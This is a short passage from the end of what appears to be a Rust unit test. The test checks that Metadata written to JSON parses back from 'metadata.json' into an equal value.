        // What we write reads back the same.
        let again = match Metadata::from_json(Path::new("metadata.json"), json.as_bytes()) {
            Ok(m) => m,
            Err(e) => panic!("{e}"),
        };
        assert_eq!(again, m);
    }
}
